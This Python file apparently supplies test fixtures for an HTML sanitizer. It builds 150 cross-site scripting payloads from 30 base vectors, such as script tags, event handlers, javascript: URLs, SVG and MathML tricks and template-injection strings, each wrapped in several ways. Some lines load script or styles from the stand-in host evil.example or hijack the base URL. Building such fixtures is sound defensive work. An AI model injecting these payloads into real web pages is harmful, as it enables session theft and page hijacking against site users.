"""150 texts of people who would rather have them run; each marks what it did in `window.hit`."""

_RUN = "window.hit=1"
_BASES = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<script src=//evil.example/x.js></script><script>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<script\n>{_RUN}</script\n>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src='x'/onerror='{_RUN}'>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_RUN}></iframe>",
    f"<a href=javascript:{_RUN} autofocus onfocus={_RUN}>기사</a>",
    f"<details open ontoggle={_RUN}><summary>기사</summary></details>",
    f"<video><source onerror={_RUN}></video>",
    f"<marquee onstart={_RUN}>기사</marquee>",
    f"<input autofocus onfocus={_RUN}>",
    f"<form action=javascript:{_RUN}><button>기사</button></form>",
    f"<button formaction=javascript:{_RUN}>기사</button>",
    f"<style>@import '//evil.example/x.css';</style><script>{_RUN}</script>",
    f"<link rel=stylesheet href=//evil.example/x.css><script>{_RUN}</script>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<base href=//evil.example/><script>{_RUN}</script>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<template><script>{_RUN}</script></template>",
    f"<p contenteditable onmouseover={_RUN}>기사</p>",
    f"<x-evil x-data x-init={_RUN} @click={_RUN}>기사</x-evil>",
    f"{{{{ {_RUN} }}}}{{% load static %}}{{0.__class__}}<script>{_RUN}</script>",
]


def _wrapped(base: str) -> list[str]:
    return [
        base,
        f"\"'>{base}",
        f"</a></h3></li></textarea></title></script>{base}",
        base.replace("<", "&lt;").replace(">", "&gt;"),
        f"<!--{base}--><![CDATA[{base}]]>{base}",
    ]


PAYLOADS = [text for base in _BASES for text in _wrapped(base)]
